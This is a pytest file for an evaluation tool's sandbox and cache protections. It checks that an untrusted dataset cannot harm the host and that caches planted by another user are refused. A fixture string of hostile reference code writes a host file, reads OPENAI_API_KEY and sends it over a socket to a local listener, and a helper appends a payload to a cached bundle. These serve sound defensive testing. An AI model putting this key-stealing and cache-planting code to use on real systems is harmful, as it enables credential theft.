"""Code a dataset or an outside task bundle brings, and the caches the project keeps, against a hostile user.

A FlashInfer-Bench dataset made here carries a definition whose `reference` tries three things as it
is imported and every time it runs: write a file on the host, read the API key from the environment
(and leave it in a file), and connect to a loopback server this test runs. `ksearch eval --dataset`
runs as a user types it; none of the three may succeed, and the candidates are still judged right.
Then caches: a converted dataset planted by another user (`nobody`, made here with os.chown as
root) is refused in one line where the project looks for it, and ignored at the old shared /tmp
path; the payload appended to its reference never runs. The rest is pure logic in process.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_runner import ksearch

from ksearch_ray.evaluation.evaluator import Evaluator
from ksearch_ray.evaluation.reference import ReferenceFailure
from ksearch_ray.evaluation.sandbox.isolation import Isolation
from ksearch_ray.evaluation.settings import Limits
from ksearch_ray.models import Status
from ksearch_ray.private_dir import PrivateDirError, cache_dir, check_private, manifest_matches, private_dir
from ksearch_ray.taskspec.flashinfer_format import default_cache_dir, load_dataset
from ksearch_ray.taskspec.spec import TaskError, bundled_tasks_dir
from ksearch_ray.taskspec.task import Task, find_task, solution_from_file

DATA = Path(__file__).parent / "data"
CANARY = "sk-canary-7f3a9e1b2c"
NAME = "hostile_scale_d8"

HOSTILE_REFERENCE = '''import os
import socket

import torch


def _attack():
    try:
        with open(@HOST_FILE@, "w") as f:
            f.write("written by the dataset's reference")
    except OSError:
        pass
    key = os.environ.get("OPENAI_API_KEY", "")
    if key:
        try:
            with open(@KEY_FILE@, "w") as f:
                f.write(key)
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as s:
            s.sendall((key or "no key").encode())
    except OSError:
        pass


_attack()


def run(x):
    _attack()
    return x * 2.0
'''


def _definition(name: str, reference: str) -> dict[str, object]:
    return {
        "name": name, "op_type": "elementwise", "description": "y = 2 x over rows of 8.",
        "axes": {"rows": {"type": "var"}, "dim": {"type": "const", "value": 8}},
        "inputs": {"x": {"shape": ["rows", "dim"], "dtype": "float32"}},
        "outputs": {"y": {"shape": ["rows", "dim"], "dtype": "float32"}},
        "reference": reference,
    }


def _write_dataset(root: Path, definition: dict[str, object]) -> Path:
    name = str(definition["name"])
    (root / "definitions" / "elementwise").mkdir(parents=True)
    (root / "definitions" / "elementwise" / f"{name}.json").write_text(json.dumps(definition))
    (root / "workloads" / "elementwise").mkdir(parents=True)
    lines = [json.dumps({"definition": name, "solution": None, "evaluation": None,
                         "workload": {"uuid": f"{name}-{rows}", "axes": {"rows": rows}, "inputs": {"x": {"type": "random"}}}})
             for rows in (3, 5)]
    (root / "workloads" / "elementwise" / f"{name}.jsonl").write_text("\n".join(lines) + "\n")
    return root


def _candidates(tmp_path: Path) -> tuple[Path, Path]:
    good, wrong = tmp_path / "good.py", tmp_path / "wrong.py"
    good.write_text("def run(x):\n    return x * 2.0\n")
    wrong.write_text("def run(x):\n    return x * 3.0\n")
    return good, wrong


class Listener:
    """A loopback server that records every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.heard: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.heard.append(conn.recv(1024) or b"(connected)")
                except OSError:
                    self.heard.append(b"(connected)")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def private_tmp(tmp_path, monkeypatch) -> Path:
    """This test's own system temporary directory (tempfile caches it per process, so TMPDIR alone is not enough)."""
    tmp = tmp_path / "tmp"
    tmp.mkdir(mode=0o700)
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp


# --- a dataset's reference runs sandboxed --------------------------------------------------------


def test_hostile_dataset_reference_cannot_write_the_host_read_the_key_or_reach_loopback(tmp_path, private_tmp, listener):
    host_file, key_file = tmp_path / "written-by-reference", tmp_path / "key-seen-by-reference"
    reference = (HOSTILE_REFERENCE.replace("@HOST_FILE@", repr(str(host_file)))
                 .replace("@KEY_FILE@", repr(str(key_file))).replace("@PORT@", str(listener.port)))
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, reference))
    good, wrong = _candidates(tmp_path)
    env = {"OPENAI_API_KEY": CANARY}

    done = ksearch(tmp_path, "eval", "--task", NAME, "--dataset", str(dataset), str(good), "--against", str(wrong),
                   "--workloads", "all", "--device", "cpu", "--isolation", "require", "--json", env=env)

    assert not host_file.exists(), "the dataset's reference wrote a file on the host"
    assert not key_file.exists(), "the dataset's reference read the API key"
    assert listener.heard == [], f"the dataset's reference reached the host's loopback: {listener.heard}"
    assert done.returncode == 0, (done.stdout, done.stderr)
    payload = json.loads(done.stdout)
    assert payload["result"]["status"] == "PASSED"  # judged against the (sandboxed) reference's outputs
    assert payload["baseline"]["status"] == "INCORRECT_NUMERICAL", payload["baseline"]["message"]
    got, expected = map(float, re.search(r"got (\S+), expected (\S+)", payload["baseline"]["message"]).groups())
    assert got == pytest.approx(1.5 * expected, rel=1e-3)  # 3x against the reference's 2x


def test_tasks_from_outside_the_package_are_untrusted_and_bundled_ones_trusted(tmp_path):
    assert find_task("trimul").trusted and find_task("trimul").root.is_relative_to(bundled_tasks_dir())
    assert not Task.load(DATA / "toy").trusted  # a --task-dir / KSEARCH_TASK_PATH bundle
    copy = tmp_path / "trimul"
    shutil.copytree(find_task("trimul").root, copy)
    assert not Task.load(copy).trusted  # the same files outside the package are not the package's
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, "def run(x):\n    return x * 2.0\n"))
    assert not Task.load(load_dataset(dataset, cache_dir=tmp_path / "cache")[NAME]).trusted


def test_an_untrusted_reference_runs_in_a_sandboxed_worker_not_in_the_evaluator(tmp_path):
    # The reference notes the process it runs in; the evaluator's process must never be it.
    bundle = tmp_path / "toy"
    shutil.copytree(DATA / "toy", bundle)
    with (bundle / "reference.py").open("a") as f:
        f.write("\n\nimport os\n_real = reference\n\n\ndef reference(inputs):\n"
                "    print('reference pid', os.getpid(), 'uid', os.getuid(), flush=True)\n"
                "    if os.environ.get('OPENAI_API_KEY'):\n        raise RuntimeError('the API key is visible')\n"
                "    return _real(inputs)\n")
    task = Task.load(bundle)
    os.environ["OPENAI_API_KEY"] = CANARY
    try:
        with Evaluator("cpu", tmp_path / "sb", limits=Limits(idle=20), isolation=Isolation.REQUIRE) as ev:
            result = ev.evaluate(task, task.baseline(), workload_set="tests")
            assert result.status is Status.PASSED, (result.message, result.log)
            assert ev.judge.misses > 0
            (worker,) = ev.judge._sandboxed.values()
            assert worker.starts == 1 and worker.importer.transports == {"memfd"}
            again = ev.evaluate(task, task.baseline(), workload_set="tests")
            assert again.status is Status.PASSED and worker.starts == 1  # one worker serves every evaluation
    finally:
        del os.environ["OPENAI_API_KEY"]


def test_a_failing_untrusted_reference_is_no_verdict_on_the_candidate(tmp_path):
    bundle = tmp_path / "toy"
    shutil.copytree(DATA / "toy", bundle)
    (bundle / "reference.py").write_text((DATA / "toy" / "reference.py").read_text()
                                         + "\n\ndef reference(inputs):\n    raise ValueError('broken on purpose')\n")
    task = Task.load(bundle)
    with (Evaluator("cpu", tmp_path / "sb", limits=Limits(idle=20), isolation=Isolation.REQUIRE) as ev,
          pytest.raises(ReferenceFailure, match="the task's reference failed on workload .*broken on purpose")):
        ev.evaluate(task, task.baseline(), workload_set="tests")


def test_tasks_listing_of_a_dataset_does_not_run_its_code(tmp_path, private_tmp):
    marker = tmp_path / "imported"
    reference = f"open({str(marker)!r}, 'w').close()\n\n\ndef run(x):\n    return x * 2.0\n"
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, reference))
    done = ksearch(tmp_path, "tasks", "--dataset", str(dataset))
    assert done.returncode == 0 and NAME in done.stdout, done.stderr
    assert not marker.exists()


# --- private caches ------------------------------------------------------------------------------


def _plant(bundle: Path, marker: Path) -> None:
    """What another user would append to a cached bundle: a payload that runs on import, and wrong math."""
    with (bundle / "definition_reference.py").open("a") as f:
        f.write(f"\ntry:\n    open({str(marker)!r}, 'w').write('planted payload ran')\nexcept OSError:\n    pass\n"
                "\n\ndef run(x):\n    return x * 5.0\n")


def _give_away(root: Path, uid: int) -> None:
    """The tree as its planter would leave it: theirs, readable by all (so any reader, a sandbox too, can use it)."""
    for p in [root, *root.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
        os.lchown(p, uid, uid)


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="planting a cache owned by another user needs root (os.chown)")
NOBODY = 65534


@needs_root
def test_a_cache_planted_by_another_user_is_refused_in_one_line(tmp_path, private_tmp):
    """The bundle sits where the next `ksearch eval --dataset` looks for it (the project's default cache),
    owned by `nobody`, with a payload: refused, exit 2, one line, and the payload never runs."""
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, "def run(x):\n    return x * 2.0\n"))
    # Made by the code under test, in the place it uses, then handed to another user with a payload.
    bundle = load_dataset(dataset, cache_dir=default_cache_dir())[NAME]
    marker = tmp_path / "planted-payload-ran"
    _plant(bundle, marker)
    _give_away(bundle, NOBODY)
    good, _ = _candidates(tmp_path)

    done = ksearch(tmp_path, "eval", "--task", NAME, "--dataset", str(dataset), str(good), "--workloads", "all",
                   "--device", "cpu")

    assert not marker.exists(), "the planted payload ran"
    assert done.returncode == 2, (done.stdout, done.stderr)
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "refused" in lines[0] and f"uid {NOBODY}" in lines[0], done.stderr
    assert "Traceback" not in done.stderr


@needs_root
def test_a_bundle_planted_at_the_old_shared_tmp_path_is_never_used(tmp_path, private_tmp):
    tmp = private_tmp
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, "def run(x):\n    return x * 2.0\n"))
    # Where the cache used to be (<temp>/ksearch-ray-flashinfer/<name>-<digest>), as another user would plant it.
    planted_root = tmp / "ksearch-ray-flashinfer"
    built = load_dataset(dataset, cache_dir=tmp_path / "scratch-build")[NAME]
    shutil.copytree(built, planted_root / built.name)
    marker = tmp_path / "planted-payload-ran"
    _plant(planted_root / built.name, marker)
    _give_away(planted_root, NOBODY)
    good, _ = _candidates(tmp_path)

    done = ksearch(tmp_path, "eval", "--task", NAME, "--dataset", str(dataset), str(good), "--workloads", "all",
                   "--device", "cpu", "--json")

    assert not marker.exists(), "the planted payload ran"
    assert done.returncode == 0, (done.stdout, done.stderr)
    assert json.loads(done.stdout)["result"]["status"] == "PASSED"  # the planted x*5 reference was not used


@needs_root
def test_a_sandbox_root_made_by_another_user_is_refused_in_one_line(tmp_path, private_tmp, monkeypatch):
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    planted = private_tmp / f"ksearch-{os.getuid()}"  # the sandbox root's name under a shared /tmp
    planted.mkdir(mode=0o755)
    os.chown(planted, NOBODY, NOBODY)
    done = ksearch(tmp_path, "eval", "--task", str(DATA / "toy"), "good", "--device", "cpu")
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert done.stderr.count("\n") == 1 and "sandbox root refused" in done.stderr and f"uid {NOBODY}" in done.stderr


def test_a_work_dir_others_can_write_is_refused_in_one_line(tmp_path):
    loose = tmp_path / "work"
    loose.mkdir()
    loose.chmod(0o777)
    done = ksearch(tmp_path, "eval", "--task", str(DATA / "toy"), "good", "--device", "cpu", "--work-dir", str(loose))
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert done.stderr.count("\n") == 1 and "sandbox folder refused" in done.stderr, done.stderr
    assert not (loose / "zygote.log").exists()


def test_cache_folders_are_made_private_at_every_level(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    made = cache_dir("flashinfer")
    assert made == tmp_path / "xdg" / "ksearch-ray" / "flashinfer"
    for level in (made, made.parent):
        assert level.stat().st_mode & 0o777 == 0o700 and level.stat().st_uid == os.geteuid()


def test_a_group_writable_or_linked_cache_folder_is_refused(tmp_path):
    loose = tmp_path / "loose"
    loose.mkdir()
    loose.chmod(0o775)
    with pytest.raises(PrivateDirError, match="writable by group or others"):
        private_dir(loose)
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (tmp_path / "elsewhere").mkdir(mode=0o700)
    with pytest.raises(PrivateDirError, match="not a directory of its own"):
        check_private(tmp_path / "link")
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, "def run(x):\n    return x * 2.0\n"))
    with pytest.raises(TaskError, match="dataset cache refused"):
        load_dataset(dataset, cache_dir=loose)


def test_a_cached_bundle_that_no_longer_matches_its_manifest_is_rebuilt(tmp_path):
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, "def run(x):\n    return x * 2.0\n"))
    bundle = load_dataset(dataset, cache_dir=tmp_path / "cache")[NAME]
    key = bundle.name.rsplit("-", 1)[1]
    assert manifest_matches(bundle, key)
    assert all(not p.stat().st_mode & 0o022 for p in [bundle, *bundle.rglob("*")])
    with (bundle / "definition_reference.py").open("a") as f:
        f.write("\nTAMPERED = True\n")
    (bundle / "extra.py").write_text("x = 1\n")
    assert not manifest_matches(bundle, key)
    again = load_dataset(dataset, cache_dir=tmp_path / "cache")[NAME]
    assert again == bundle and manifest_matches(again, key)
    assert "TAMPERED" not in (again / "definition_reference.py").read_text() and not (again / "extra.py").exists()


# --- the GPU path (run by the lead on the H200) ---------------------------------------------------


@pytest.mark.gpu
def test_untrusted_references_come_through_the_device_hand_over_on_a_gpu(tmp_path, listener):
    host_file, key_file = tmp_path / "written-by-reference", tmp_path / "key-seen-by-reference"
    reference = (HOSTILE_REFERENCE.replace("@HOST_FILE@", repr(str(host_file)))
                 .replace("@KEY_FILE@", repr(str(key_file))).replace("@PORT@", str(listener.port)))
    dataset = _write_dataset(tmp_path / "dataset", _definition(NAME, reference))
    task = Task.load(load_dataset(dataset, cache_dir=tmp_path / "cache")[NAME])
    os.environ["OPENAI_API_KEY"] = CANARY
    try:
        with Evaluator("cuda", tmp_path / "sb", limits=Limits(idle=120), isolation=Isolation.REQUIRE) as ev:
            good, wrong = _candidates(tmp_path)
            passed = ev.evaluate(task, solution_from_file(good, task), workload_set="all")
            failed = ev.evaluate(task, solution_from_file(wrong, task), workload_set="all")
            (worker,) = ev.judge._sandboxed.values()
            transports = set(worker.importer.transports)
    finally:
        del os.environ["OPENAI_API_KEY"]
    assert passed.status is Status.PASSED, (passed.message, passed.log[-1000:])
    assert failed.status is Status.INCORRECT_NUMERICAL, failed.message
    assert transports == {"cuda_vmm"}
    assert not host_file.exists() and not key_file.exists() and listener.heard == []
